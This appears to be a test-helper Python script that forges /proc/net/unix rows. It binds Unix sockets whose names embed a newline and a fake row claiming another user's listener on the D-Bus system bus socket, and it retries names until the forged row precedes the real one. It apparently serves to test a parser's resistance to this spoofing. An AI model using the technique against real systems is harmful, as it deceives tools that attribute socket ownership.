# Run by src/forged-unix.test.ts as uid/gid 65534 (setpriv): binds unix sockets to relative
# paths in FOLDER whose names hold a newline and then a whole /proc/net/unix row claiming another
# user's socket: a listener on /run/dbus/system_bus_socket. Usage:
#   unix-forger.py FOLDER INODE[:first] ...
# For an INODE marked ":first", names are tried until the row a name holds comes before the
# victim's own row in /proc/net/unix, as an attacker would: the file lists the kernel's hash
# buckets in order, unbound sockets and those bound to a path in the first half (by the inode of
# the socket's file), newest first within a bucket, abstract names after them; so a few hundred
# new files at most. Prints one JSON line, [{"victim", "inode" (of the forger's socket), "name",
# "first", "tries"}], then waits for stdin EOF.
import json
import os
import socket
import sys

DBUS = '/run/dbus/system_bus_socket'
LISTEN = 0x10000


def table():
    with open('/proc/net/unix', 'rb') as f:
        return f.read().split(b'\n')


def victim_row(lines, inode, skip):
    for i, line in enumerate(lines):
        cols = line.split()
        if i not in skip and len(cols) >= 7 and cols[6] == str(inode).encode():
            return i
    return -1


def forge(victim, need_first, tag):
    lines = table()
    real = victim_row(lines, victim, set())
    num = lines[real].split(b':')[0].decode() if real > 0 else '0' * 16
    # The row as the kernel prints it: "%pK: %08X %08X %08X %04X %02X %5lu" and the name.
    row = f'{num}: {2:08X} {0:08X} {LISTEN:08X} {1:04X} {1:02X} {victim:5d} {DBUS}'
    for tries in range(1, 2001):
        name = f'{tag}{tries}\n{row}'
        # The claimed path's slashes make folders of the rest: create them.
        os.makedirs(os.path.dirname(name), exist_ok=True)
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(name.encode())
        s.listen(1)
        mine = os.fstat(s.fileno()).st_ino
        lines = table()
        own = victim_row(lines, mine, set())
        forged = own + 1
        first = 0 < own and victim_row(lines, victim, {forged}) > forged
        if first or not need_first:
            return s, {'victim': victim, 'inode': mine, 'name': name, 'first': first, 'tries': tries}
        s.close()
        os.unlink(name)
    raise SystemExit(f'no name of mine came before socket {victim}')


os.chdir(sys.argv[1])
held, out = [], []
for n, arg in enumerate(sys.argv[2:]):
    inode, _, mode = arg.partition(':')
    s, facts = forge(int(inode), mode == 'first', f'f{n}-')
    held.append(s)
    out.append(facts)
print(json.dumps(out), flush=True)
sys.stdin.read()
